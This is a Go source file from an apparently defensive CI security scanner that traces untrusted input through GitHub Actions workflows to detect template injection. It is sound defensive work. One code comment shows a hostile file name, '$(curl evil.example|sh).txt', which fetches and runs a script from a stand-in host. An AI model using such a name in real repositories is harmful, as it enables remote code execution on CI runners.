package cicheck

import (
	"path"
	"slices"
	"strconv"
	"strings"
	"unicode/utf8"

	"github.com/rhysd/actionlint"

	"github.com/buildwall/buildwall/internal/ciconfig"
	"github.com/buildwall/buildwall/internal/finding"
)

// taint is what, besides github.event.* and github.head_ref, the
// expressions of one step may expand from untrusted input: environment
// variables set from it (env: at any level, or written to $GITHUB_ENV by an
// earlier step), and context paths that carry it — inputs.* of
// workflow_dispatch and workflow_call (and of a composite action whose
// caller passes untrusted values), matrix.* rows built from untrusted
// values, steps.<id>.outputs.* written from untrusted values.
type taint struct {
	env *taintScope
	// paths maps a lower-case context path (inputs.x, matrix.x,
	// github.event.inputs.x, steps.id.outputs.y) to where its value comes
	// from; nil when there are none.
	paths map[string]string
	// soft lists the paths whose source needs write access to the
	// repository (workflow_dispatch inputs) or depends on a caller
	// (workflow_call inputs): findings from them alone are medium.
	soft map[string]bool
	// owned is set once paths and soft belong to this job alone (copied
	// from the workflow's), so that later additions need no copy.
	owned bool
	// ghEnv is the job's layer of variables written to $GITHUB_ENV (the
	// top of the job's env chain once set); one map however many steps
	// write, so that lookups do not walk a layer per write.
	ghEnv *taintScope
	// prFiles is set when a pull request can start the workflow: then
	// the outputs of actions that report its branch or changed file
	// names (attackerOutputs) carry the pull request author's text.
	prFiles bool
	// outputFilter maps a steps.<id>.outputs.* path to the action whose
	// attackerOutputs filter says which outputs are untrusted. It is
	// written only after paths is owned, and shares its lifetime.
	outputFilter map[string]string
}

// any reports whether some variable or path may carry untrusted input.
func (t *taint) any() bool { return t != nil && (t.env.any() || len(t.paths) > 0) }

// withEnv returns t over the env: entries of one more level.
func (t taint) withEnv(env []ciconfig.Pair) taint {
	t.env = taintedEnv(t.env, env)
	return t
}

// addPath records that path (lower case) carries input from origin. The
// maps are copied on the first write of a job (when not owned), so that
// a job's additions do not leak into its siblings.
func (t *taint) addPath(path, origin string, soft bool) {
	if !t.owned {
		t.owned = true
		paths := make(map[string]string, len(t.paths)+1)
		for k, v := range t.paths {
			paths[k] = v
		}
		t.paths = paths
		if len(t.soft) > 0 {
			s := make(map[string]bool, len(t.soft))
			for k, v := range t.soft {
				s[k] = v
			}
			t.soft = s
		}
	}
	if t.paths == nil {
		t.paths = map[string]string{}
	}
	t.paths[path] = capOrigin(origin)
	if soft {
		if t.soft == nil {
			t.soft = map[string]bool{}
		}
		t.soft[path] = true
	} else if t.soft[path] {
		delete(t.soft, path)
	}
}

// maxOrigin bounds the description of where a value comes from: each
// propagation step names the previous one, and a chain of thousands of
// steps must not make descriptions (and the scan) quadratic.
const maxOrigin = 240

func capOrigin(s string) string {
	if len(s) <= maxOrigin {
		return s
	}
	cut := maxOrigin
	for cut > 0 && !utf8.RuneStart(s[cut]) {
		cut--
	}
	return s[:cut] + "…"
}

// workflowTaint is the taint every job of w starts from: its free-text
// inputs when it runs on workflow_dispatch or workflow_call.
func workflowTaint(w *ciconfig.Workflow) taint {
	t := taint{env: taintedEnv(nil, w.Env)}
	for i := range w.On {
		e := &w.On[i]
		for _, in := range e.Inputs {
			if !in.FreeText() {
				continue
			}
			origin := e.Name.Value + " input " + in.Name
			t.addPath("inputs."+in.Name, origin, true)
			if e.Name.Value == "workflow_dispatch" {
				t.addPath("github.event.inputs."+in.Name, origin, true)
			}
		}
	}
	t.owned = false // shared by the jobs
	t.prFiles = triggered(w, forkPRTriggers) != nil || w.Trigger("workflow_run") != nil
	return t
}

// attackerOutputs are actions whose outputs hold a pull request's branch
// name or changed file names, which its author chooses freely (a file
// named $(curl evil.example|sh).txt is a valid name), by lower-case action
// name: the output names that do, or nil for all of them.
var attackerOutputs = map[string]func(output string) bool{
	"tj-actions/changed-files": func(o string) bool { return strings.Contains(o, "files") },
	"dorny/paths-filter":       func(o string) bool { return strings.HasSuffix(o, "_files") },
	"tj-actions/branch-names":  nil,
	"tj-actions/verify-changed-files": func(o string) bool {
		return strings.Contains(o, "files")
	},
}

// actionOutputs records, when t.prFiles, that step s's outputs from an
// attackerOutputs action are untrusted (as steps.<id>.outputs.* with a
// filter checked in taintedRefs).
func actionOutputs(jt taint, s *ciconfig.Step) taint {
	if !jt.prFiles || s.ID == nil || s.Uses == nil {
		return jt
	}
	name := actionName(s)
	if _, ok := attackerOutputs[name]; !ok {
		return jt
	}
	jt.addPath("steps."+strings.ToLower(s.ID.Value)+".outputs.*", name, false)
	if jt.outputFilter == nil {
		jt.outputFilter = map[string]string{}
	}
	jt.outputFilter["steps."+strings.ToLower(s.ID.Value)+".outputs.*"] = name
	return jt
}

// jobTaint is t plus the job's env: and its matrix rows whose values
// expand untrusted input. t is not modified.
func jobTaint(t taint, j *ciconfig.Job) taint {
	t = t.withEnv(j.Env)
	t.owned, t.ghEnv, t.outputFilter = false, nil, nil
	if j.MatrixExpr != nil {
		// matrix: ${{ fromJSON(...) }}: every row comes from it.
		if from, soft := untrustedIn1(j.MatrixExpr.Value, &t); from != "" {
			t.addPath("matrix.*", "the matrix, set from "+from, soft)
		}
	}
	for _, row := range j.Matrix {
		for i := range row.Values {
			v := row.Values[i].Value
			if !strings.Contains(v, "${{") {
				continue
			}
			if from, soft := untrustedIn1(v, &t); from != "" {
				t.addPath("matrix."+strings.ToLower(row.Name.Value), "matrix."+row.Name.Value+" set from "+from, soft)
				break
			}
		}
	}
	return t
}

// jobOutputs records in wt, for the jobs after j, which of j's outputs
// (needs.<id>.outputs.<name>) carry untrusted input under jt, the taint
// j's steps ended with.
func jobOutputs(wt *taint, j *ciconfig.Job, jt *taint) {
	for _, o := range j.Outputs {
		if o.Value == nil || !strings.Contains(o.Value.Value, "${{") {
			continue
		}
		if from, soft := untrustedIn1(o.Value.Value, jt); from != "" {
			wt.addPath("needs."+strings.ToLower(j.ID.Value)+".outputs."+strings.ToLower(o.Name.Value),
				"output "+o.Name.Value+" of job "+j.ID.Value+" set from "+from, soft)
		}
	}
}

// untrustedIn1 returns the first untrusted input that value's expressions
// expand (under t), and whether it is soft; "" when none.
func untrustedIn1(value string, t *taint) (string, bool) {
	for _, e := range expressions(value) {
		if len(e.Untrusted) > 0 {
			return e.Untrusted[0], false
		}
		if t.any() {
			if refs, soft := taintedRefsParsed(value[e.Start:e.End], t); len(refs) > 0 {
				return refs[0], soft
			}
		}
	}
	return "", false
}

// afterStep records what step s (with its own env in scope st) writes
// from untrusted input to $GITHUB_ENV (for later steps' env.*) and to
// $GITHUB_OUTPUT or ::set-output (steps.<id>.outputs.*). It returns the
// job's taint for the next steps, which shares (and adds to) jt's owned
// maps: jt must not be used afterwards.
func afterStep(jt taint, st *taint, s *ciconfig.Step) taint {
	if s.Run == nil {
		return jt
	}
	script := s.Run.Value
	if !strings.Contains(script, "GITHUB_ENV") && !strings.Contains(script, "GITHUB_OUTPUT") && !strings.Contains(script, "set-output") {
		return jt
	}
	// A multi-line value: echo "NAME<<EOF" >> "$GITHUB_OUTPUT", the
	// lines of the value, then a line with the delimiter.
	var heredoc struct {
		name, delim, from string
		soft, toEnv       bool
	}
	record := func(name, from string, soft, toEnv bool) {
		switch {
		case toEnv:
			if jt.ghEnv == nil {
				jt.ghEnv = &taintScope{parent: jt.env, vars: map[string]envVar{}, tainted: true}
				jt.env = jt.ghEnv
			}
			jt.ghEnv.vars[strings.ToLower(name)] = envVar{name, capOrigin("$GITHUB_ENV write of " + from)}
		case s.ID != nil:
			path := "steps." + strings.ToLower(s.ID.Value) + ".outputs." + strings.ToLower(name)
			jt.addPath(path, "output "+name+" of step "+s.ID.Value+" set from "+from, soft)
		}
	}
	taintOf := func(text string) (string, bool) {
		from, soft := untrustedIn1(text, st)
		if from == "" {
			from, soft = shellVarTaint(text, st)
		}
		if from == "" {
			from = eventPayloadText(text)
		}
		return from, soft
	}
	lines := slices.Collect(strings.Lines(script))
	group := groupTargets(lines)
	for i, line := range lines {
		if heredoc.delim != "" {
			if isDelimLine(line, heredoc.delim, group[i] != 0) {
				if heredoc.from != "" {
					record(heredoc.name, heredoc.from, heredoc.soft, heredoc.toEnv)
				}
				heredoc.delim = ""
			} else if heredoc.from == "" {
				heredoc.from, heredoc.soft = taintOf(line)
			}
			continue
		}
		toEnv := strings.Contains(line, "GITHUB_ENV") || group[i] == 'e'
		toOut := strings.Contains(line, "GITHUB_OUTPUT") || group[i] == 'o'
		name, value, ok := "", "", false
		if i := strings.Index(line, "::set-output name="); i >= 0 {
			name, value, ok = strings.Cut(line[i+len("::set-output name="):], "::")
			toOut = true
		} else if (toEnv || toOut) && strings.Contains(line, "<<") {
			if name, delim, ok := heredocStart(line); ok {
				heredoc.name, heredoc.delim, heredoc.from, heredoc.toEnv = name, delim, "", toEnv
			}
			continue
		} else if toEnv || toOut {
			name, value, ok = assignment(line)
		}
		if !ok || name == "" {
			continue
		}
		if from, soft := taintOf(value); from != "" {
			record(name, from, soft, toEnv)
		}
	}
	return jt
}

// eventPayloadText reports whether shell text reads an outsider's text
// from the event payload file (jq -r .pull_request.title
// "$GITHUB_EVENT_PATH"), and names it; "" when not.
func eventPayloadText(text string) string {
	if !strings.Contains(text, "GITHUB_EVENT_PATH") && !containsFold(text, "github.event_path") {
		return ""
	}
	for _, field := range payloadTextFields {
		if containsFold(text, field) {
			return "the event payload's " + strings.TrimPrefix(field, ".") + " read from $GITHUB_EVENT_PATH"
		}
	}
	return ""
}

// payloadTextFields are the free-text fields of event payloads, as a jq
// path or script names them (lower case).
var payloadTextFields = []string{".title", ".body", "head.ref", "head_ref", ".message", ".description", ".head_branch", ".display_title"}

// heredocStart reads NAME<<DELIM from a line that starts a multi-line
// value in $GITHUB_OUTPUT or $GITHUB_ENV.
func heredocStart(line string) (name, delim string, ok bool) {
	i := strings.Index(line, "<<")
	j := i
	for j > 0 && isWordByte(line[j-1]) && line[j-1] != '.' {
		j--
	}
	name = line[j:i]
	rest := strings.TrimLeft(line[i+2:], "'\"")
	k := 0
	for k < len(rest) && isWordByte(rest[k]) {
		k++
	}
	delim = rest[:k]
	return name, delim, name != "" && delim != ""
}

// isDelimLine reports whether line ends a multi-line value: it is the
// delimiter alone or echoes it (echo EOF >> "$GITHUB_OUTPUT", or echo EOF
// inside a group redirected as a whole).
func isDelimLine(line, delim string, grouped bool) bool {
	t := strings.TrimSpace(line)
	if t == delim {
		return true
	}
	return wordIndex(t, delim, 0) >= 0 && (grouped || strings.Contains(t, "GITHUB_OUTPUT") || strings.Contains(t, "GITHUB_ENV"))
}

// groupTargets marks the lines of each top-level shell group
// ({ ...; } >> "$GITHUB_OUTPUT") whose output goes to $GITHUB_OUTPUT ('o')
// or $GITHUB_ENV ('e'); 0 elsewhere. Nested groups are covered by the
// outermost one only, so marking stays linear.
func groupTargets(lines []string) []byte {
	out := make([]byte, len(lines))
	depth, start := 0, 0
	for i, line := range lines {
		t := strings.TrimSpace(line)
		switch {
		case t == "{" || strings.HasPrefix(t, "{ "):
			if depth == 0 {
				start = i
			}
			depth++
		case strings.HasPrefix(t, "}") && depth > 0:
			depth--
			if depth > 0 {
				continue
			}
			var target byte
			switch {
			case strings.Contains(t, "GITHUB_OUTPUT"):
				target = 'o'
			case strings.Contains(t, "GITHUB_ENV"):
				target = 'e'
			}
			for k := start; k < i && target != 0; k++ {
				out[k] = target
			}
		}
	}
	return out
}

// assignment finds NAME=VALUE in a line that writes to $GITHUB_ENV or
// $GITHUB_OUTPUT (echo "NAME=VALUE" >> "$GITHUB_ENV", printf, tee).
func assignment(line string) (name, value string, ok bool) {
	eq := strings.IndexByte(line, '=')
	if eq <= 0 {
		return "", "", false
	}
	i := eq
	for i > 0 && (isWordByte(line[i-1]) && line[i-1] != '.') {
		i--
	}
	name = line[i:eq]
	if name == "" || strings.HasPrefix(name, "-") {
		return "", "", false
	}
	value = line[eq+1:]
	if j := strings.Index(value, ">>"); j >= 0 {
		value = value[:j]
	}
	return name, value, true
}

// shellVarTaint reports whether shell text reads ($NAME, ${NAME}) an
// environment variable that the step's scope has from untrusted input.
func shellVarTaint(text string, st *taint) (string, bool) {
	if !st.env.any() {
		return "", false
	}
	for at := 0; ; {
		i := strings.IndexByte(text[at:], '$')
		if i < 0 {
			return "", false
		}
		at += i + 1
		j := at
		if j < len(text) && text[j] == '{' {
			j++
		}
		k := j
		for k < len(text) && isWordByte(text[k]) && text[k] != '.' && text[k] != '-' {
			k++
		}
		if from, ok := st.env.lookup(text[j:k]); ok {
			return "$" + text[j:k] + " set from " + from, false
		}
	}
}

// taintedRefs returns a description of every context path in expression
// text that t says carries untrusted input, and whether all of them are
// soft (see taint.soft).
func taintedRefs(text string, t *taint) (refs []string, soft bool) {
	soft = true
	for i := 0; i < len(text); {
		c := text[i]
		if c == '\'' { // skip string literals
			j := strings.IndexByte(text[i+1:], '\'')
			if j < 0 {
				break
			}
			i += j + 2
			continue
		}
		if !isIdentStart(c) {
			i++
			continue
		}
		j := i
		for j < len(text) && (isWordByte(text[j]) || text[j] == '*') {
			j++
		}
		tok := text[i:j]
		i = j
		if len(tok) > 4 && equalFoldASCII(tok[:4], "env.") {
			name := tok[4:]
			name, _, _ = strings.Cut(name, ".")
			if set, from, ok := t.env.lookupName(name); ok {
				refs = append(refs, "env."+set+" set from "+from)
				soft = false
			}
			continue
		}
		if len(t.paths) == 0 {
			continue
		}
		low := strings.ToLower(tok)
		for _, n := range [...]int{2, 4} { // inputs.x, matrix.x; steps.id.outputs.y, github.event.inputs.x
			p := prefixSegments(low, n)
			from, ok := t.paths[p]
			if !ok && n == 2 && strings.HasPrefix(p, "matrix.") {
				from, ok = t.paths["matrix.*"]
			}
			if !ok && n == 4 && p != "" {
				// steps.<id>.outputs.* of an attackerOutputs action.
				wild := p[:strings.LastIndexByte(p, '.')] + ".*"
				if action, isOut := t.outputFilter[wild]; isOut {
					if keep := attackerOutputs[action]; keep == nil || keep(p[len(wild)-1:]) {
						from, ok = "an output of "+action+" holding the pull request's branch or file names", true
					}
				}
			}
			if ok {
				desc := p
				if from != "" && from != p {
					desc += " (" + from + ")"
				}
				refs = append(refs, desc)
				soft = soft && t.soft[p]
				break
			}
		}
	}
	return refs, soft && len(refs) > 0
}

// prefixSegments returns the first n dot-separated segments of p, or ""
// when it has fewer.
func prefixSegments(p string, n int) string {
	at := 0
	for k := 0; k < n; k++ {
		i := strings.IndexByte(p[at:], '.')
		if i < 0 {
			if k == n-1 {
				return p
			}
			return ""
		}
		if k == n-1 {
			return p[:at+i]
		}
		at += i + 1
	}
	return p
}

// LocalCall is a step that runs a local action (uses: ./dir) and passes
// untrusted values to some of its inputs. The scan traces those inputs
// into the action's own steps (TraceAction).
type LocalCall struct {
	// Dir is the action's directory, slash-separated and relative to the
	// repository root, cleaned ("." for the root); "" for a workflow.
	Dir string
	// Workflow is the called reusable workflow's path, slash-separated
	// and relative to the repository root, for a job that calls one
	// (uses: ./.github/workflows/x.yml); "" for an action.
	Workflow string
	// Inputs maps a lower-case input name to where its value comes from.
	Inputs map[string]string
}

// workflowCall records, in c.Calls, the untrusted inputs job j (with
// its taint jt) passes to a reusable workflow in the repository.
func workflowCall(c *Context, j *ciconfig.Job, jt *taint) {
	if j.Uses == nil || len(j.With) == 0 {
		return
	}
	u := ciconfig.ParseUses(j.Uses.Value)
	if u.Kind != ciconfig.UsesLocal {
		return
	}
	if inputs := untrustedInputs(c, j.With, jt); inputs != nil {
		c.Calls = append(c.Calls, LocalCall{Workflow: path.Clean(strings.TrimSpace(u.Path)), Inputs: inputs})
	}
}

// untrustedInputs maps the with: entries that expand untrusted input
// (under t) to where it comes from and the caller's file and line; nil
// when there are none.
func untrustedInputs(c *Context, with []ciconfig.Pair, t *taint) map[string]string {
	var inputs map[string]string
	for _, p := range with {
		if p.Value == nil || !strings.Contains(p.Value.Value, "${{") {
			continue
		}
		if from, _ := untrustedIn1(p.Value.Value, t); from != "" {
			if inputs == nil {
				inputs = map[string]string{}
			}
			inputs[strings.ToLower(p.Name.Value)] = capOrigin(from + ", passed by " + c.Path + ":" + strconv.Itoa(p.Name.Pos.Line))
		}
	}
	return inputs
}

// localCall records, in c.Calls, the untrusted inputs step s (with its
// taint st) passes to a local action.
func localCall(c *Context, s *ciconfig.Step, st *taint) {
	if s.Uses == nil || len(s.With) == 0 || !strings.HasPrefix(strings.TrimSpace(s.Uses.Value), ".") {
		return // only ./ and ../ are local (a cheap test before parsing)
	}
	u := ciconfig.ParseUses(s.Uses.Value)
	if u.Kind != ciconfig.UsesLocal {
		return
	}
	inputs := untrustedInputs(c, s.With, st)
	if inputs != nil {
		c.Calls = append(c.Calls, LocalCall{Dir: path.Clean(strings.TrimSpace(u.Path)), Inputs: inputs})
	}
}

// TraceWorkflow runs template-injection on reusable workflow w (whose
// context c has ActionInputs set to the untrusted inputs its callers in
// the repository pass) and returns the findings that differ from
// CheckWorkflow's: new ones, and ones now of a higher severity (an input
// reported as medium when only the caller was known to set it).
func TraceWorkflow(c *Context, w *ciconfig.Workflow) []finding.Finding {
	if len(c.ActionInputs) == 0 {
		return nil
	}
	var traced []finding.Finding
	checkTemplateInjectionWorkflow(c, w, func(f finding.Finding) { traced = append(traced, f) })
	plain := map[[2]int]finding.Severity{}
	checkTemplateInjectionWorkflow(&Context{Path: c.Path}, w, func(f finding.Finding) { plain[[2]int{f.Line, f.Column}] = f.Severity })
	return slices.DeleteFunc(traced, func(f finding.Finding) bool {
		sev, ok := plain[[2]int{f.Line, f.Column}]
		return ok && sev >= f.Severity
	})
}

// TraceAction runs template-injection on composite action a (whose
// context c has ActionInputs set to the untrusted inputs its callers pass)
// and returns the findings that come from those inputs only: the others
// are reported by CheckAction already.
func TraceAction(c *Context, a *ciconfig.Action) []finding.Finding {
	if len(c.ActionInputs) == 0 {
		return nil
	}
	var traced []finding.Finding
	checkTemplateInjectionAction(c, a, func(f finding.Finding) { traced = append(traced, f) })
	plain := &Context{Path: c.Path}
	seen := map[[2]int]bool{}
	checkTemplateInjectionAction(plain, a, func(f finding.Finding) { seen[[2]int{f.Line, f.Column}] = true })
	return slices.DeleteFunc(traced, func(f finding.Finding) bool { return seen[[2]int{f.Line, f.Column}] })
}

// taintedRefsParsed is taintedRefs for the paths whose value reaches the
// expansion: it parses expression text (from "${{" on) and drops paths
// reduced to a boolean or number (${{ inputs.debug == 'true' && '-v' ||
// ” }}, contains(matrix.os, 'win')), as untrustedIn does for the event.
// When the text does not parse, the textual answer stands.
func taintedRefsParsed(text string, t *taint) ([]string, bool) {
	refs, soft := taintedRefs(text, t)
	if len(refs) == 0 && !strings.Contains(text, "[") {
		return nil, false // bracket notation (env['X']) needs the parser
	}
	node, err := actionlint.NewExprParser().Parse(actionlint.NewExprLexer(strings.TrimPrefix(text, "${{")))
	if err != nil {
		return refs, soft
	}
	var live []string
	walkExpanded(node, func(n actionlint.ExprNode, reduced bool) actionlint.ExprNode {
		p, base := chainPath(n)
		if p != "" && !reduced {
			live = append(live, p)
		}
		return base
	})
	if len(live) == 0 {
		return nil, false
	}
	return taintedRefs(strings.Join(live, " "), t)
}

// chainPath renders a property-access chain as a dotted path
// (inputs['x'].y gives inputs.x.y, a non-literal index gives *), or ""
// with the chain's root when that is not a context name (a function call).
func chainPath(n actionlint.ExprNode) (string, actionlint.ExprNode) {
	switch n := n.(type) {
	case *actionlint.VariableNode:
		return n.Name, nil
	case *actionlint.ObjectDerefNode:
		p, base := chainPath(n.Receiver)
		if p == "" {
			return "", base
		}
		return p + "." + n.Property, nil
	case *actionlint.ArrayDerefNode:
		p, base := chainPath(n.Receiver)
		if p == "" {
			return "", base
		}
		return p + ".*", nil
	case *actionlint.IndexAccessNode:
		p, base := chainPath(n.Operand)
		if p == "" {
			return "", base
		}
		if s, ok := n.Index.(*actionlint.StringNode); ok {
			return p + "." + s.Value, nil
		}
		return p + ".*", nil
	}
	return "", n
}
